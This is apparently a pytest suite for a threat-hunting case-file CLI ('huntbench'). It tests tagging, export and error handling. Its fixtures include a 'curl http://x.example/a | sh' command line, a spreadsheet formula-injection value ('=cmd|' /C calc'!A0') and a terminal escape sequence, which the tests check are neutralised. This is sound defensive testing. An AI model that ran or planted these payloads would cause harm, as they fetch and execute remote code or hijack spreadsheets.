"""``huntbench case ...`` end to end through the real console script."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from casefile import schema

HUNTBENCH = str(Path(sys.executable).with_name("huntbench"))
HUNT = "1d7cae97-2dea-4f01-b04c-85fa4bd991d0"

QUERY0 = {
    "columns": [{"name": "cc", "type": "long"}, {"name": "agent_count", "type": "long"},
                {"name": "file.name", "type": "keyword"}, {"name": "process.executable", "type": "keyword"}],
    "values": [[1, 1, "=cmd|' /C calc'!A0", "/tmp/.x/dropper"], [2, 1, "evil.postinst", "/usr/bin/dpkg"]],
}
QUERY1 = {
    "columns": [{"name": "cc", "type": "long"}, {"name": "agent_count", "type": "long"},
                {"name": "process.executable", "type": "keyword"}, {"name": "process.command_line", "type": "keyword"}],
    "values": [[1, 1, "/bin/sh", "-c 'curl http://x.example/a | sh'"]],
}


def hb(*args, stdin: bytes | str | None = None, env: dict | None = None, cwd=None, user=None):
    data = stdin.encode() if isinstance(stdin, str) else stdin
    full_env = {**os.environ, **(env or {})}
    return subprocess.run([HUNTBENCH, *args], input=data, capture_output=True, env=full_env, cwd=cwd,
                          timeout=120, user=user)


def ok(proc) -> str:
    assert proc.returncode == 0, proc.stderr.decode()
    return proc.stdout.decode()


def one_line_error(proc) -> str:
    err = proc.stderr.decode()
    assert proc.returncode != 0
    assert "Traceback" not in err, err
    assert err.startswith("error: ") and err.count("\n") == 1, err
    return err.strip()


def test_done_when_pipe_json_tag_then_export_timesketch_csv(tmp_path):
    case = tmp_path / "c.db"
    out = ok(hb("case", "tag", "--case", str(case), "--tag", "suspicious", "--from-json", "-",
                stdin=json.dumps(QUERY0)))
    assert out == f"case {case}: 2 findings created, 0 updated\n"
    ok(hb("case", "export", "--case", str(case), "--out", str(tmp_path / "f.csv")))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "f.csv").read_text(encoding="utf-8"), newline="")))
    assert sorted(r["file.name"] for r in rows) == ["'=cmd|' /C calc'!A0", "evil.postinst"]
    assert all(r["tags"] == "suspicious" for r in rows)
    assert all(r["message"] and r["datetime"].endswith("Z") and r["timestamp_desc"] for r in rows)


def test_hunt_run_list_uses_each_results_query_number_and_the_hunt(tmp_path):
    case = tmp_path / "c.db"
    listing = [{"query": 0, "language": "ES|QL", **QUERY0}, {"query": 1, "language": "ES|QL", **QUERY1}]
    ok(hb("case", "tag", "--case", str(case), "--tag", "needs-review", "--hunt", HUNT, "--note", "triage",
          "--source", "https://elastic:hunter2@es.example:9200", "--from-json", "-", stdin=json.dumps(listing)))
    found = json.loads(ok(hb("case", "list", "--case", str(case), "--format", "json")))
    assert sorted((f["query"], f["source_kind"]) for f in found) == [("0", "elastic"), ("0", "elastic"), ("1", "elastic")]
    assert {f["hunt"] for f in found} == {"Persistence via DPKG/RPM Package"}
    assert {tuple(f["mitre"]) for f in found} == {("T1546.016",)}
    assert {f["source"] for f in found} == {"https://es.example:9200"}
    for stored in (case, Path(str(case) + "-wal")):
        assert not stored.exists() or b"hunter2" not in stored.read_bytes()
    # the same rows again update instead of duplicating (the password differs: not part of the id)
    again = ok(hb("case", "tag", "--case", str(case), "--tag", "malicious", "--hunt", HUNT, "--from-json", "-",
                  "--source", "https://es.example:9200", stdin=json.dumps(listing)))
    assert again.endswith("0 findings created, 3 updated\n")
    # --query overrides the results' own numbers
    other = ok(hb("case", "tag", "--case", str(case), "--tag", "malicious", "--hunt", HUNT, "--query", "pivot:x",
                  "--source", "https://es.example:9200", "--from-json", "-", stdin=json.dumps(listing)))
    assert other.endswith("3 findings created, 0 updated\n")


def test_osquery_results_are_recorded_as_osquery_findings(tmp_path):
    case = tmp_path / "c.db"
    scan = [{"query": 2, "language": "osquery SQL", "columns": [{"name": "path"}, {"name": "size_bytes"}],
             "values": [["/var/lib/dpkg/info/evil.postinst", 120]]}]
    ok(hb("case", "tag", "--case", str(case), "--tag", "malicious", "--from-json", "-", stdin=json.dumps(scan)))
    found = json.loads(ok(hb("case", "list", "--case", str(case), "--format", "json")))
    assert [(f["source_kind"], f["query"], f["id_fields"]) for f in found] == [("osquery", "2", ["path"])]


def test_case_path_from_environment_and_default(tmp_path):
    ok(hb("case", "tag", "--tag", "benign", "--from-json", "-", stdin=json.dumps(QUERY1),
          env={"HUNTBENCH_CASE": str(tmp_path / "env.db")}))
    assert (tmp_path / "env.db").exists()
    env = {k: v for k, v in os.environ.items() if k != "HUNTBENCH_CASE"}
    subprocess.run([HUNTBENCH, "case", "tag", "--tag", "benign", "--from-json", "-"], input=json.dumps(QUERY1).encode(),
                   env=env, cwd=tmp_path, check=True, capture_output=True)
    assert (tmp_path / "huntbench-case.db").exists()
    info = subprocess.run([HUNTBENCH, "case", "info"], env=env, cwd=tmp_path, capture_output=True, text=True)
    assert info.stdout.startswith(f"case file: {tmp_path / 'huntbench-case.db'}\n")


def test_show_note_untag_and_info(tmp_path):
    case = tmp_path / "c.db"
    ok(hb("case", "tag", "--case", str(case), "--tag", "suspicious", "--tag", "malicious", "--from-json", "-",
          stdin=json.dumps(QUERY1)))
    fid = json.loads(ok(hb("case", "list", "--case", str(case), "--format", "json")))[0]["id"]
    ok(hb("case", "note", "--case", str(case), fid[:8], "seen on 3 hosts \x1b[2J"))
    ok(hb("case", "untag", "--case", str(case), fid[:8], "--tag", "malicious"))
    shown = ok(hb("case", "show", "--case", str(case), fid[:8]))
    assert f"finding {fid}" in shown and "tags: suspicious" in shown
    assert "seen on 3 hosts \\x1b[2J" in shown and "\x1b" not in shown  # terminal escapes shown, not run
    assert "untag" in shown and "process.command_line: -c 'curl http://x.example/a | sh'" in shown
    info = ok(hb("case", "info", "--case", str(case)))
    assert "findings: 1" in info and f"schema version: {schema.current_version()}" in info and "journal: wal" in info


def test_export_jsonl_to_stdout_and_tag_filter(tmp_path):
    case = tmp_path / "c.db"
    ok(hb("case", "tag", "--case", str(case), "--tag", "suspicious", "--from-json", "-", stdin=json.dumps(QUERY0)))
    ok(hb("case", "tag", "--case", str(case), "--tag", "malicious", "--from-json", "-", stdin=json.dumps(QUERY1)))
    lines = ok(hb("case", "export", "--case", str(case), "--out", "-", "--format", "jsonl", "--tag", "malicious"))
    records = [json.loads(line) for line in lines.splitlines()]
    assert [r["row"]["process.command_line"] for r in records] == ["-c 'curl http://x.example/a | sh'"]
    raw = ok(hb("case", "export", "--case", str(case), "--out", "-", "--raw"))
    assert "\r\n=cmd" not in raw and ",=cmd|' /C calc'!A0," in raw


def test_export_to_stdout_into_a_closed_pipe_ends_quietly(tmp_path):
    case = tmp_path / "c.db"
    many = {"columns": [{"name": "file.path"}], "values": [[f"/var/lib/dpkg/info/{i}.postinst"] for i in range(20000)]}
    ok(hb("case", "tag", "--case", str(case), "--tag", "suspicious", "--from-json", "-", stdin=json.dumps(many)))
    done = subprocess.run(f"set -o pipefail; {HUNTBENCH} case export --case {case} --out - | head -n 2",
                          shell=True, executable="/bin/bash", capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr.decode()
    assert done.stdout.decode().startswith("finding_id,tags,") and b"Traceback" not in done.stderr


@pytest.mark.parametrize("data, message", [
    (b"{not json", "stdin: not valid JSON"),
    (b"", "stdin: no JSON in it"),
    (b'{"rows": []}', 'stdin: the input is not a {"columns": [..], "values": [..]} result'),
    (b'{"columns": [{"name": "a"}], "values": [[1, 2]]}', "stdin: the input, row 0: 2 values for 1 columns"),
])
def test_bad_input_is_one_line_error_and_the_case_is_untouched(tmp_path, data, message):
    case = tmp_path / "c.db"
    ok(hb("case", "tag", "--case", str(case), "--tag", "suspicious", "--from-json", "-", stdin=json.dumps(QUERY0)))
    before = case.read_bytes()
    err = one_line_error(hb("case", "tag", "--case", str(case), "--tag", "x", "--from-json", "-", stdin=data))
    assert message in err
    assert len(json.loads(ok(hb("case", "list", "--case", str(case), "--format", "json")))) == 2
    assert case.read_bytes() == before


def test_invalid_utf8_and_nul_in_values_are_kept_and_reported(tmp_path):
    case = tmp_path / "c.db"
    data = b'{"columns":[{"name":"file.name"}],"values":[["evil\xff\xfe.sh"],["nul\\u0000byte"],["lone\\udc80"]]}'
    proc = hb("case", "tag", "--case", str(case), "--tag", "suspicious", "--from-json", "-", stdin=data)
    assert "2 findings" not in ok(proc) and "3 findings created" in proc.stdout.decode()
    assert "2 bytes are not UTF-8" in proc.stderr.decode()
    records = [json.loads(x) for x in ok(hb("case", "export", "--case", str(case), "--out", "-", "--format", "jsonl")).splitlines()]
    assert sorted(r["row"]["file.name"] for r in records) == sorted(["evil\udcff\udcfe.sh", "nul\x00byte", "lone\udc80"])


def test_bad_tag_is_refused_before_a_case_file_is_created(tmp_path):
    err = one_line_error(hb("case", "tag", "--case", str(tmp_path / "c.db"), "--tag", "a|b", "--from-json", "-",
                            stdin=json.dumps(QUERY0)))
    assert "tag 'a|b' is not usable" in err
    assert list(tmp_path.iterdir()) == []


def test_root_case_option_is_used_by_case_commands(tmp_path):
    case = _case_with_one(tmp_path)
    assert ok(hb("--case", str(case), "case", "info")).startswith(f"case file: {case}\n")


def test_not_a_case_file_and_missing_case_are_refused(tmp_path):
    text = tmp_path / "report.docx"
    text.write_bytes(b"PK\x03\x04 not a database at all" * 10)
    err = one_line_error(hb("case", "tag", "--case", str(text), "--tag", "x", "--from-json", "-", stdin=json.dumps(QUERY0)))
    assert "not a SQLite database" in err
    assert text.read_bytes() == b"PK\x03\x04 not a database at all" * 10
    err = one_line_error(hb("case", "list", "--case", str(tmp_path / "none.db")))
    assert "no case file at" in err and not (tmp_path / "none.db").exists()
    err = one_line_error(hb("case", "show", "--case", str(_case_with_one(tmp_path)), "ffffffff"))
    assert "no finding 'ffffffff'" in err


def _case_with_one(tmp_path) -> Path:
    case = tmp_path / "one.db"
    ok(hb("case", "tag", "--case", str(case), "--tag", "suspicious", "--from-json", "-", stdin=json.dumps(QUERY1)))
    return case


def test_locked_case_is_a_one_line_error(tmp_path):
    case = _case_with_one(tmp_path)
    holder = sqlite3.connect(case, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        err = one_line_error(hb("case", "tag", "--case", str(case), "--tag", "malicious", "--from-json", "-",
                                stdin=json.dumps(QUERY0), env={"HUNTBENCH_CASE_BUSY_TIMEOUT": "0.3"}))
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert err == f"error: case file {case} is locked by another process (busy for 0.3 s); try again"


def run_read_only(folder: Path, *args: str, stdin: str | None = None):
    """Run huntbench with ``folder`` read-only. Root writes through permission bits, so as
    root the folder is bind-mounted read-only in a private mount namespace (gone with the
    process); otherwise plain chmod 555."""
    if os.geteuid() != 0:
        folder.chmod(0o555)
        try:
            return hb(*args, stdin=stdin)
        finally:
            folder.chmod(0o755)
    if shutil.which("unshare") is None or subprocess.run(["unshare", "-rm", "true"]).returncode != 0:
        pytest.skip("running as root without unshare: cannot make a folder read-only for the test")
    script = 'mount --bind "$0" "$0" && mount -o remount,ro,bind "$0" "$0" && exec "$@"'
    data = stdin.encode() if stdin else None
    return subprocess.run(["unshare", "-rm", "sh", "-c", script, str(folder), HUNTBENCH, *args],
                          input=data, capture_output=True, timeout=120)


def test_export_into_a_read_only_folder_fails_cleanly(tmp_path):
    case = _case_with_one(tmp_path)
    folder = tmp_path / "ro"
    folder.mkdir()
    err = one_line_error(run_read_only(folder, "case", "export", "--case", str(case), "--out", str(folder / "f.csv")))
    assert f"cannot export to {folder / 'f.csv'}: folder {folder} is not writable; nothing was written" in err
    assert list(folder.iterdir()) == []


def test_new_case_in_a_read_only_folder_fails_cleanly(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    err = one_line_error(run_read_only(folder, "case", "tag", "--case", str(folder / "c.db"), "--tag", "x",
                                       "--from-json", "-", stdin=json.dumps(QUERY0)))
    assert "read-only" in err
    assert list(folder.iterdir()) == []


def test_existing_case_in_a_read_only_folder_cannot_be_tagged_and_is_not_lost(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    case = folder / "c.db"
    ok(hb("case", "tag", "--case", str(case), "--tag", "suspicious", "--from-json", "-", stdin=json.dumps(QUERY1)))
    before = case.read_bytes()
    err = one_line_error(run_read_only(folder, "case", "tag", "--case", str(case), "--tag", "malicious",
                                       "--from-json", "-", stdin=json.dumps(QUERY0)))
    assert str(case) in err
    assert case.read_bytes() == before
